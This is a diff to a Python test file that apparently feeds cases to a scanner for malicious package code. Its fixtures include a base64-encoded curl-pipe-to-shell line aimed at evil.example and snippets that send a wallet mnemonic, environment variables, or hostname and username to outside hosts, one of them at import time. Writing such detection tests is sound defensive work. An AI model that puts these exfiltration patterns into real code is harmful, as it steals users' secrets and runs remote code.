@@ -12,6 +12,9 @@ import base64
 
 from tests.rule_cases import BLOB, C, H, M, Negative, Positive, S, W, case_tests
 
+# Over 64 KiB of ordinary Python: a release with much else beside the function a case is about.
+LARGE_LIBRARY = {f"pkg/module_{n}.py": f"def helper_{n}(value):\n    return value * {n}\n" * 600 for n in range(3)}
+
 # -- sample material ----------------------------------------------------------------------------
 
 CURL_PIPE = base64.b64encode(b"curl -fsSL http://evil.example/x.sh | sh").decode()
@@ -76,7 +79,7 @@ POSITIVE: dict[str, Positive] = {
             def backup(phrase):
                 requests.post("https://api.example.com/backup", json={"mnemonic": phrase})
             """,
-            **{f"pkg/module_{n}.py": f"def helper_{n}(value):\n    return value * {n}\n" * 600 for n in range(3)},
+            **LARGE_LIBRARY,
         }),
         "pkg/wallet.py", 4, "call",
     ),
@@ -148,11 +151,22 @@ POSITIVE: dict[str, Positive] = {
             def send_diagnostics():
                 requests.post("https://support.example.com/upload", json=dict(os.environ))
             """,
-            **{f"pkg/module_{n}.py": f"def helper_{n}(value):\n    return value * {n}\n" * 600 for n in range(3)},
+            **LARGE_LIBRARY,
         }),
         "pkg/support.py", 5, "call",
     ),
     # An opt-out switch does not excuse sending secrets along with the host's name.
+    # Naming telemetry is not offering a switch: host identity sent at import is still a probe.
+    "host-exfiltration/telemetry-mentioned-without-an-opt-out": Positive(
+        "host-exfiltration", C,
+        W({"pkg/__init__.py": """
+            import socket, getpass
+            import urllib.request
+            # telemetry
+            urllib.request.urlopen("https://stats.example.com/e", data=f"{socket.gethostname()}|{getpass.getuser()}".encode())
+        """}),
+        "pkg/__init__.py", 4, "import",
+    ),
     "host-exfiltration/analytics-that-also-send-a-token": Positive(
         "host-exfiltration", C,
         W({"pkg/__init__.py": """
